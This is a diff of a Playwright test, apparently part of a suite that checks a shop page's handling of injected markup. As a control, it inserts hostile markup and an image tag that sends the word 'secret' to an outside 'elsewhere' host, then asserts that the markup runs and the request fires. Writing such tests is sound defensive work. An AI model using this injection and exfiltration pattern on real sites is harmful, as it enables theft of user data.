@@ -120,9 +120,8 @@ test("[I2, I3, I7 control] the same lines as the page's own markup do run and fe
 }) => {
   const seen = await watch(page);
   await page.goto(builtIn.shopUrl);
-  await page.evaluate((markup) => {
-    document.body.insertAdjacentHTML("beforeend", `<div id="control">${markup}</div>`);
-  }, `${hostileMarkup[1]} <img src="${elsewhere}/?words=secret">`);
+  const markup = `<div id="control">${hostileMarkup[1]} <img src="${elsewhere}/?words=secret"></div>`;
+  await page.evaluate(`document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)})`);
   await expect.poll(() => seen).toEqual(expect.arrayContaining(["ran", `request ${elsewhere}/?words=secret`]));
   expect(await dangerousIn(page.locator("#control"))).toEqual(expect.arrayContaining(["img", "img onerror"]));
   problems.length = 0;
